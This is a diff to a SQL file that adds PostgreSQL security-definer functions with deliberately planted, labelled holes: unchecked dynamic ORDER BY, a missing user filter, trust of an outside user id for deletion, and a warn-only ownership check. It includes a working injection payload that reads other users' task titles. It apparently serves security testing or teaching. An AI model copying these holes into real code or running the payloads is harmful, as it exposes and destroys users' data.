@@ -689,6 +689,25 @@ create function app.titles_where(c text) returns setof text language plpgsql sta
 -- exploit
 select 'secret' in (select app.titles_where('title'));
 
+-- name of a column that is the user: hole security_definer app.count_where(text)
+create function app.count_where(c text) returns bigint language plpgsql stable security definer set search_path = pg_catalog, pg_temp as $$ declare n bigint; begin execute format('select count(*) from app.tasks where %I = $1', c) into n using app.current_user_id(); return n; end $$;
+
+-- order whose direction is not checked: hole security_definer app.titles_ordered(text, text)
+create function app.titles_ordered(c text, direction text) returns setof text language plpgsql stable security definer set search_path = pg_catalog, pg_temp as $$ begin
+if c not in ('title', 'id') then raise 'no such order'; end if;
+return query execute '(select title from app.tasks where user_id = $1 order by ' || quote_ident(c) || ' ' || direction || ')' using app.current_user_id(); end $$;
+-- exploit
+select 'secret' in (select app.titles_ordered('id', 'limit 0) union all (select title from app.tasks'));
+
+-- list of conditions, one without the filter: hole security_definer app.titles_by_scope(text)
+create function app.titles_by_scope(scope text) returns setof text language plpgsql stable security definer set search_path = pg_catalog, pg_temp as $$ declare condition text; begin
+condition := case scope when 'open' then 'user_id = $1 and not completed' when 'done' then 'completed' else 'user_id = $1' end;
+return query execute 'select title from app.tasks where ' || condition using app.current_user_id(); end $$;
+
+-- tables by their names, and a user from outside: hole security_definer app.erase(text)
+create function app.erase(who text) returns void language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ declare t name; begin
+for t in select c.table_name from information_schema.columns c where c.table_schema = 'app' and c.column_name = 'user_id' loop execute format('delete from app.%I where user_id = $1', t) using who; end loop; end $$;
+
 -- helper that only warns: hole security_definer app.drop_warned(bigint)
 create function app.warn_owner(task bigint) returns void language plpgsql as $$ begin if not exists (select from app.tasks t where t.id = task and t.user_id = app.current_user_id()) then raise warning 'not yours'; end if; end $$;
 create function app.drop_warned(task bigint) returns void language plpgsql security definer set search_path = pg_catalog, pg_temp as $$ begin perform app.warn_owner(task); delete from app.tasks where id = task; end $$;
